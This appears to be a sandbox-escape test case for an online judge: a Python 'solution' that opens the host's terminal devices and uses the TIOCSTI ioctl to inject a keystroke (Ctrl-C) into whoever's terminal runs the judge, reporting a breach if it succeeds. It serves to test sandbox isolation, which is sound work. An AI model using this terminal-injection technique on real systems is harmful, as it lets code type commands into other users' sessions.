# Types a command into the terminal of whoever runs the judge.
# expect: AC
# not in none: it would type into the terminals of this machine

import fcntl
import os
import termios


def solve(a, b):
    terminals = []
    for path in ("/dev/tty", "/dev/console", "/dev/tty1", "/dev/pts/0", "/dev/pts/1"):
        try:
            terminals.append(os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK))
        except OSError:
            pass
    injected = 0
    for fd in (0, 1, 2, *terminals):
        for request in (termios.TIOCSTI, 0x541C):
            try:
                fcntl.ioctl(fd, request, b"\x03")
                injected += 1
            except OSError:
                pass
    return a + b if not injected else "breach: typed"
